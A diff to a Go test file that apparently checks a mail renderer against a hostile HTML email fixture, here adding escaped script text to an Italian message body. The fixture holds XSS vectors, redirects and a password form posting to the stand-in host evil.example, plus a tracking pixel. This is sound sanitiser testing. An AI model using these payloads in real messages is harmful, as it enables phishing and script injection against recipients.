@@ -102,7 +102,7 @@ func (w *world) comes(l letter) *store.Mail {
 }
 
 const hostileMail = `<html><head><style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
-<body onload="hacked=1"><p>Buongiorno, il <b>cedolino</b> non si apre.</p><script>hacked=1</script><img src="x" onerror="hacked=1"><a href="javascript:hacked=1">premi</a>
+<body onload="hacked=1"><p>Buongiorno, il <b>cedolino</b> non si apre: &lt;script&gt;hacked=1&lt;/script&gt;</p><script>hacked=1</script><img src="x" onerror="hacked=1"><a href="javascript:hacked=1">premi</a>
 <a href="data:text/html,<script>hacked=1</script>">dati</a><svg onload="hacked=1"><script>hacked=1</script></svg><form action="https://evil.example/"><input name="password"><button>Invia</button></form>
 <div style="position:fixed;inset:0">sopra</div><iframe src="https://evil.example/"></iframe><img src="cid:foto" alt="schermata"><img src="https://evil.example/spia.png" alt="fuori" width="1"></body></html>`
 
